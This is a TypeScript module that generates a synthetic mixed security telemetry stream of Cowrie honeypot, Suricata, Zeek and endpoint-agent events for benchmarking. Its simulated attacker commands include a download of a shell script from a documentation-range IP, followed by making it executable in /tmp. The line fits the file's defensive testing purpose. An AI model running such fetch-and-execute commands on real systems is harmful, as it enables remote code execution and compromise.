/** A deterministic mixed telemetry stream for benchmarks: Cowrie, Suricata, Zeek and agent events. */
export type StreamRecord = { source: 'cowrie' | 'suricata' | 'zeek' | 'agent'; record: Record<string, unknown> };

const USERS = ['root', 'admin', 'ubuntu', 'oracle', 'test', 'pi', 'git', 'postgres'];
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo', 'wget http://203.0.113.9/x.sh', 'cd /tmp; chmod +x x.sh', 'ls -la'];

function ip(n: number): string {
  return `198.51.${(n >> 8) & 255}.${n & 255}`;
}

export function mixedStream(count: number, startMs: number): StreamRecord[] {
  const records: StreamRecord[] = [];
  for (let i = 0; i < count; i++) {
    const ts = new Date(startMs + i * 7).toISOString();
    const src = ip(i % 5000);
    switch (i % 4) {
      case 0:
        records.push({
          source: 'cowrie',
          record:
            i % 8 === 0
              ? {
                  eventid: 'cowrie.login.failed',
                  timestamp: ts,
                  src_ip: src,
                  src_port: 40000 + (i % 20000),
                  dst_ip: '10.0.0.5',
                  dst_port: 22,
                  session: `s${i}`,
                  username: USERS[i % USERS.length],
                  password: `pw${i % 97}`,
                  sensor: 'hp-1',
                }
              : { eventid: 'cowrie.command.input', timestamp: ts, src_ip: src, session: `s${i}`, input: COMMANDS[i % COMMANDS.length], sensor: 'hp-1' },
        });
        break;
      case 1:
        records.push({
          source: 'suricata',
          record:
            i % 3 === 0
              ? {
                  timestamp: ts,
                  flow_id: 1000 + i,
                  event_type: 'alert',
                  src_ip: src,
                  src_port: 51000,
                  dest_ip: '10.0.0.8',
                  dest_port: 80,
                  proto: 'TCP',
                  alert: {
                    action: 'allowed',
                    signature_id: 2010000 + (i % 50),
                    signature: 'ET SCAN Suspicious inbound',
                    category: 'Attempted Information Leak',
                    severity: 2,
                  },
                }
              : {
                  timestamp: ts,
                  flow_id: 1000 + i,
                  event_type: 'dns',
                  src_ip: src,
                  src_port: 53000,
                  dest_ip: '10.0.0.53',
                  dest_port: 53,
                  proto: 'UDP',
                  dns: { type: 'query', id: i % 65535, rrname: `host${i % 300}.example.com`, rrtype: 'A' },
                },
        });
        break;
      case 2:
        records.push({
          source: 'zeek',
          record: {
            _path: 'conn',
            ts: (startMs + i * 7) / 1000,
            uid: `C${i.toString(36)}`,
            'id.orig_h': src,
            'id.orig_p': 52000,
            'id.resp_h': '10.0.0.9',
            'id.resp_p': 443,
            proto: 'tcp',
            service: 'ssl',
            duration: 0.5,
            orig_bytes: 500,
            resp_bytes: 4000,
            conn_state: 'SF',
          },
        });
        break;
      default:
        records.push({
          source: 'agent',
          record: {
            event_id: `agent-${i}`,
            event_type: 'process_start',
            severity: 'low',
            category: 'process',
            timestamp: ts,
            details: { hostname: `ws-${i % 200}`, process_name: 'bash', command_line: 'bash -c id', user: 'alice' },
          },
        });
    }
  }
  return records;
}
